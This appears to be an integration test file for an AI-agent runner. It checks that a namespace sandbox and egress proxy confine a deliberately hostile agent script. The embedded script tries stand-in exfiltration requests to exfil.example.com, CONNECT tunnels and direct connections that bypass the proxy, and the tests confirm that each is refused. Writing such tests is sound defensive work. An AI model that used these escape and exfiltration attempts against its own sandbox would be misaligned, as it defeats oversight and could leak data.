/**
 * The firewall in front of the agent, attacked for real: a hostile "agent" (a Node script) runs in a real
 * namespace sandbox (bubblewrap, its own network namespace) as an unprivileged uid, with the worker's egress proxy (src/worker/network/egress-proxy.ts)
 * and the forwarder (src/worker/network/egress-forwarder.ts) in front of it exactly as src/worker/network/agent-egress.ts builds
 * them. It reaches an allowed HTTP server on the host's loopback (the stand-in for a model server) through the
 * proxy and through the transparent loopback tunnel; a host not on the allow-list and a loopback port not on it
 * are refused and reported; a direct connection that bypasses the proxy finds no network.
 *
 * The sandbox is the product's own (src/worker/isolation/agent-user.ts, `isolation: namespace`), given the network the
 * egress builds (`useNetwork`), as src/worker/run-job.ts does.
 */
import { spawn } from "node:child_process";
import { chmod, mkdtemp, rm, writeFile } from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { ConfigSchema } from "../../src/core/config/config-schema.js";
import type { ProxiedNetwork } from "../../src/worker/network/agent-network.js";
import { type AgentEgress, startAgentEgress } from "../../src/worker/network/agent-egress.js";
import { testAgentUser } from "../worker/fixtures/real.js";

const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

async function server(reply: string): Promise<number> {
  const s = http.createServer((req, res) => res.end(`${reply} ${req.method} ${req.url}`));
  await new Promise<void>((done) => s.listen(0, "127.0.0.1", done));
  cleanups.push(() => new Promise((done) => s.close(() => done())));
  return (s.address() as AddressInfo).port;
}

async function agentDir(): Promise<string> {
  const dir = await mkdtemp(path.join(os.tmpdir(), "egress-test-"));
  await chmod(dir, 0o755);
  cleanups.push(() => rm(dir, { recursive: true, force: true }));
  return dir;
}

async function egressFor(allow: string[], dir: string): Promise<AgentEgress> {
  const config = ConfigSchema.parse({
    agents: { primary: { preset: "custom", command: "x {prompt_file}" } },
    network: { allow },
  });
  const egress = await startAgentEgress({ config, parentEnv: {}, agentDir: dir, enforced: true });
  cleanups.push(() => egress.close());
  return egress;
}

interface Ran {
  code: number | null;
  stdout: string;
  stderr: string;
}

/**
 * Runs `command` as the worker runs the agent: through the real namespace sandbox of src/worker/isolation/agent-user.ts
 * (a test agent user, `isolation: namespace`), given the proxied network the egress built.
 */
async function runSandboxed(network: ProxiedNetwork, agentDir: string, command: string[]): Promise<Ran> {
  const user = await testAgentUser("namespace", [agentDir]);
  user.useNetwork(network);
  const wrapped = user.wrap(command[0]!, command.slice(1), { PATH: "/usr/bin:/bin" });
  try {
    return await new Promise((resolve, reject) => {
      const child = spawn(wrapped.command, wrapped.args, {
        env: wrapped.env,
        stdio: ["ignore", "pipe", "pipe"],
      });
      let stdout = "";
      let stderr = "";
      child.stdout.on("data", (chunk) => (stdout += chunk));
      child.stderr.on("data", (chunk) => (stderr += chunk));
      child.on("error", reject);
      child.on("close", (code) => resolve({ code, stdout, stderr }));
    });
  } finally {
    await user.killAll();
  }
}

/**
 * The hostile agent: every way out it tries, one JSON line each. It speaks HTTP by hand (no client library that
 * might decide for it) to the proxy named in HTTP_PROXY, and connects directly where it wants to bypass it.
 */
const AGENT = String.raw`
const net = require("node:net");
const [allowedPort, unlistedPort] = process.argv.slice(2);
const proxy = new URL(process.env.HTTP_PROXY);
function exchange(host, port, text) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port });
    let data = "";
    socket.setTimeout(10000, () => socket.destroy(new Error("timeout")));
    socket.on("connect", () => socket.write(text));
    socket.on("data", (chunk) => (data += chunk));
    socket.on("end", () => resolve({ ok: true, data }));
    socket.on("error", (error) => resolve({ ok: false, error: error.code || error.message, data }));
  });
}
const line = (name, value) => console.log(JSON.stringify({ name, ...value }));
(async () => {
  const get = (host, path) => "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n";
  line("via proxy, allowed", await exchange(proxy.hostname, proxy.port, get("127.0.0.1:" + allowedPort, "http://127.0.0.1:" + allowedPort + "/model")));
  line("direct to the allowed loopback address", await exchange("127.0.0.1", allowedPort, get("127.0.0.1", "/tunnel")));
  line("via proxy, host not listed", await exchange(proxy.hostname, proxy.port, get("exfil.example.com", "http://exfil.example.com/steal")));
  line("CONNECT, host not listed", await exchange(proxy.hostname, proxy.port, "CONNECT exfil.example.com:443 HTTP/1.1\r\nHost: exfil.example.com:443\r\n\r\n"));
  line("CONNECT, loopback port not listed", await exchange(proxy.hostname, proxy.port, "CONNECT 127.0.0.1:" + unlistedPort + " HTTP/1.1\r\n\r\n"));
  line("direct to a loopback port not listed", await exchange("127.0.0.1", unlistedPort, get("127.0.0.1", "/")));
  line("direct to a public address", await exchange("1.1.1.1", 80, get("1.1.1.1", "/")));
  process.exit(7);
})();
`;

async function runAgent(allowedPort: number, unlistedPort: number) {
  const dir = await agentDir();
  const egress = await egressFor([`127.0.0.1:${allowedPort}`], dir);
  const script = path.join(dir, "agent.cjs");
  await writeFile(script, AGENT, { mode: 0o644 });
  const network = egress.network as ProxiedNetwork;
  const ran = await runSandboxed(network, dir, [
    process.execPath,
    script,
    String(allowedPort),
    String(unlistedPort),
  ]);
  const results = new Map<string, { ok: boolean; data: string; error?: string }>();
  for (const text of ran.stdout.split("\n").filter(Boolean)) {
    const { name, ...value } = JSON.parse(text) as {
      name: string;
      ok: boolean;
      data: string;
      error?: string;
    };
    results.set(name, value);
  }
  return { ran, results, egress };
}

describe("the agent's firewall in a real network namespace", () => {
  it("lets the agent reach an allowed server on the host's loopback, through the proxy and the transparent tunnel", async () => {
    const allowed = await server("model-server");
    const unlisted = await server("runner-service");
    const { ran, results, egress } = await runAgent(allowed, unlisted);

    expect(ran.code, ran.stderr).toBe(7);
    expect(results.get("via proxy, allowed")?.data).toContain("model-server GET /model");
    expect(results.get("direct to the allowed loopback address")?.data).toContain("model-server GET /tunnel");
    expect(egress.allowed().map((entry) => entry.host)).toEqual([`127.0.0.1:${allowed}`]);
  });

  it("refuses a host not on the allow-list, by plain http and by CONNECT, names the setting, and reports it", async () => {
    const allowed = await server("model-server");
    const unlisted = await server("runner-service");
    const { results, egress } = await runAgent(allowed, unlisted);

    const plain = results.get("via proxy, host not listed")?.data ?? "";
    expect(plain).toMatch(/^HTTP\/1\.1 403/);
    expect(plain).toContain("network.allow");
    expect(results.get("CONNECT, host not listed")?.data).toMatch(/^HTTP\/1\.1 403/);
    expect(egress.refused()).toEqual(
      expect.arrayContaining([
        { host: "exfil.example.com:80", count: 1 },
        { host: "exfil.example.com:443", count: 1 },
      ]),
    );
  });

  it("refuses CONNECT to a loopback port of the host that is not listed (the runner's own services)", async () => {
    const allowed = await server("model-server");
    const unlisted = await server("runner-service");
    const { results, egress } = await runAgent(allowed, unlisted);

    const answer = results.get("CONNECT, loopback port not listed")?.data ?? "";
    expect(answer).toMatch(/^HTTP\/1\.1 403/);
    expect(answer).not.toContain("runner-service");
    expect(egress.refused()).toContainEqual({ host: `127.0.0.1:${unlisted}`, count: 1 });
  });

  it("leaves no way around the proxy: a direct connection finds only the sandbox's own empty loopback", async () => {
    const allowed = await server("model-server");
    const unlisted = await server("runner-service");
    const { results } = await runAgent(allowed, unlisted);

    const loopback = results.get("direct to a loopback port not listed");
    expect(loopback?.ok).toBe(false);
    expect(loopback?.error).toBe("ECONNREFUSED");
    expect(loopback?.data ?? "").not.toContain("runner-service");
    const outside = results.get("direct to a public address");
    expect(outside?.ok).toBe(false);
    expect(outside?.error).toBe("ENETUNREACH");
  });

  it("passes the command's exit code and signal on, and a command that cannot start fails with 127", async () => {
    const dir = await agentDir();
    const network = (await egressFor([], dir)).network as ProxiedNetwork;
    expect((await runSandboxed(network, dir, ["/bin/sh", "-c", "exit 42"])).code).toBe(42);
    expect((await runSandboxed(network, dir, ["/bin/sh", "-c", "kill -TERM $$"])).code).toBe(128 + 15);
    const missing = await runSandboxed(network, dir, ["/nonexistent/agent"]);
    expect(missing.code).toBe(127);
    expect(missing.stderr).toContain("cannot start /nonexistent/agent");
  });
});
